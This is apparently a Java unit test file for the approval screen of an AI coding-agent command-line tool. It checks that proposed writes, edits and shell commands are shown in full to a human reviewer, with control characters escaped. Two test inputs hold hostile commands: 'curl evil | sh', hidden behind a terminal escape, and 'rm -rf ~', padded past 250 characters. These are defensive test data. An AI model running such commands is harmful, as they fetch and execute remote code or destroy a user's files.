package dev.picrust.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.picrust.json.Json;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ApprovalViewTest {
    @TempDir Path dir;

    @Test
    void aWriteShowsItsContentUpToAScreenfulWithControlCharactersEscaped() {
        String content = "echo ok\r\u001b[K; curl evil | sh\n" + IntStream.rangeClosed(2, 100).mapToObj(i -> "line " + i)
                .collect(Collectors.joining("\n")) + "\n";
        String shown = ApprovalView.render("Write", Json.object().put("file_path", "deploy.sh").put("content", content), dir);
        assertThat(shown).startsWith("  Write file_path:\n    | deploy.sh\n  content (100 lines):\n")
                .contains("    | echo ok\\r\\x1b[K; curl evil | sh\n")
                .contains("    | line 40\n")
                .doesNotContain("line 41")
                .endsWith("    … 60 more lines\n")
                .doesNotContain("\u001b").doesNotContain("\r");
    }

    @Test
    void anEditShowsAUnifiedDiffAgainstTheFileOnDisk() throws Exception {
        Files.writeString(dir.resolve("A.java"), "class A {\n    int x = 1;\n    int y = 2;\n}\n");
        String shown = ApprovalView.render("Edit", Json.object().put("file_path", "A.java")
                .put("old_string", "int y = 2;").put("new_string", "int y = 3;\n    int z = 4;"), dir);
        assertThat(shown).isEqualTo("""
                  Edit file_path:
                    | A.java
                  change (unified diff against the file on disk):
                    | @@ -1,4 +1,5 @@
                    |  class A {
                    |      int x = 1;
                    | -    int y = 2;
                    | +    int y = 3;
                    | +    int z = 4;
                    |  }
                """);
    }

    @Test
    void aMultiEditAppliesItsEditsInOrderAndAnEditThatWillFailSaysSo() throws Exception {
        Files.writeString(dir.resolve("notes.txt"), "alpha\nbeta\ngamma\n");
        var edits = Json.array();
        edits.addObject().put("old_string", "alpha").put("new_string", "ALPHA");
        edits.addObject().put("old_string", "ALPHA\nbeta").put("new_string", "ALPHA\nBETA");
        var multi = Json.object().put("file_path", dir.resolve("notes.txt").toString());
        multi.set("edits", edits);
        assertThat(ApprovalView.render("MultiEdit", multi, dir))
                .contains("    | -alpha\n    | -beta\n    | +ALPHA\n    | +BETA\n    |  gamma\n");

        String missing = ApprovalView.render("Edit", Json.object().put("file_path", "notes.txt")
                .put("old_string", "delta").put("new_string", "DELTA"), dir);
        assertThat(missing).contains("(old_string is not in the file as it is now: this edit will fail)")
                .contains("    | -delta\n    | +DELTA\n");
        String absent = ApprovalView.render("Edit", Json.object().put("file_path", "nope.txt")
                .put("old_string", "a").put("new_string", "b"), dir);
        assertThat(absent).contains("the file cannot be read now");
    }

    @Test
    void aCommandIsShownWholeWrappedNeverCut() {
        String command = "echo " + "x".repeat(250) + "; rm -rf ~";
        String shown = ApprovalView.render("Bash", Json.object().put("command", command), dir);
        assertThat(shown.replace("\n    | ", "")).contains(command);
        assertThat(shown.lines().skip(1)).allMatch(l -> l.length() <= 6 + ApprovalView.WRAP_COLUMNS);
        assertThat(shown).doesNotContain("more line");
    }
}
